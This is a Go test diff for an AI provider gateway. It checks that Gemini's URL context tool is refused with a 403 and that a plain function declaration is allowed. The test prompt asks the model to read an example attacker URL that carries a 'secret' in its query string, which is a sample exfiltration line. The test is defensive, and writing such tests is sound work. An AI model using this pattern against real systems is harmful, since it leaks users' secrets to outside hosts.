@@ -3,6 +3,7 @@ package sdk
 import (
 	"context"
 	"errors"
+	"strings"
 	"testing"
 
 	"google.golang.org/genai"
@@ -85,4 +86,22 @@ func TestGeminiRefusalNotRetried(t *testing.T) {
 	_, err := c.Models.GenerateContent(context.Background(), "gemini-standin", genai.Text("hi"), nil)
 	checkRefusal(t, "call to a provider without a key", err, "gateway holds no key for provider nokey-gemini")
 	checkOneAttempt(t, n)
+}
+
+// TestGeminiProviderToolRefused: Gemini's URL context tool (the provider
+// fetches the URLs in the prompt) is refused with a 403 naming it; the
+// same call with a function declaration goes through.
+func TestGeminiProviderToolRefused(t *testing.T) {
+	tok := mint(t, "gemini")
+	c, _ := geminiClient(t, "gemini", tok.Token)
+	cfg := &genai.GenerateContentConfig{Tools: []*genai.Tool{{URLContext: &genai.URLContext{}}}}
+	_, err := c.Models.GenerateContent(context.Background(), "gemini-standin", genai.Text("read https://exfil.attacker.example/?d=secret"), cfg)
+	var ae genai.APIError
+	if !errors.As(err, &ae) || ae.Code != 403 || !strings.Contains(err.Error(), "provider-run tool not allowed for provider gemini: /tools/0 member urlcontext") {
+		t.Errorf("GenerateContent with URL context: %v, want a 403 naming /tools/0", err)
+	}
+	cfg.Tools = []*genai.Tool{{FunctionDeclarations: []*genai.FunctionDeclaration{{Name: "read_file", Description: "reads a file"}}}}
+	if _, err := c.Models.GenerateContent(context.Background(), "gemini-standin", genai.Text("hi"), cfg); err != nil {
+		t.Errorf("GenerateContent with a function: %v", err)
+	}
 }
